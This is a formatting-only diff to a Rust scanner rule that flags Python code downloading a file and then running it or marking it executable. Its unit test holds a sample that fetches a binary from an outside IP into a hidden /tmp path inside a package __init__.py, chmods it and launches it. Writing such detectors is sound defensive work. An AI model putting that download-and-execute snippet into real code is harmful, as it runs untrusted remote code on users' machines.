@@ -25,8 +25,10 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
         .calls
         .iter()
         .filter(|c| {
-            matches!(c.name.as_str(), "urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download")
-                || (c.method() == "write" && c.arg_taint() & NET != 0)
+            matches!(
+                c.name.as_str(),
+                "urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download"
+            ) || (c.method() == "write" && c.arg_taint() & NET != 0)
                 || (c.is_network() && c.kw("stream").is_some())
         })
         .collect();
@@ -35,11 +37,15 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     }
     for c in &facts.calls {
         let runs = c.is_process() || c.name == "os.startfile";
-        let chmod = c.name == "os.chmod" || c.name == "os.fchmod" || c.all_text().contains("chmod +x");
+        let chmod =
+            c.name == "os.chmod" || c.name == "os.fchmod" || c.all_text().contains("chmod +x");
         if !(runs || chmod) {
             continue;
         }
-        let Some(d) = downloads.iter().find(|d| d.ctx == c.ctx && d.line <= c.line && c.line - d.line <= 40) else {
+        let Some(d) = downloads
+            .iter()
+            .find(|d| d.ctx == c.ctx && d.line <= c.line && c.line - d.line <= 40)
+        else {
             continue;
         };
         let sev = c.ctx.pick(Severity::Critical, Severity::High);
@@ -48,7 +54,12 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             sev,
             Confidence::Medium,
             c.line,
-            format!("file downloaded on line {} is {} with `{}`", d.line, if chmod { "made executable" } else { "run" }, c.name),
+            format!(
+                "file downloaded on line {} is {} with `{}`",
+                d.line,
+                if chmod { "made executable" } else { "run" },
+                c.name
+            ),
             c.note.as_deref(),
         );
     }
@@ -62,7 +73,10 @@ mod tests {
     #[test]
     fn urlretrieve_chmod_run() {
         let src = "import os, subprocess, urllib.request\np = '/tmp/.cache/agent'\nurllib.request.urlretrieve('http://192.0.2.3/agent', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n";
-        assert_eq!(worst("download-execute", "pkg/__init__.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("download-execute", "pkg/__init__.py", src),
+            Some(Severity::Critical)
+        );
     }
 
     #[test]
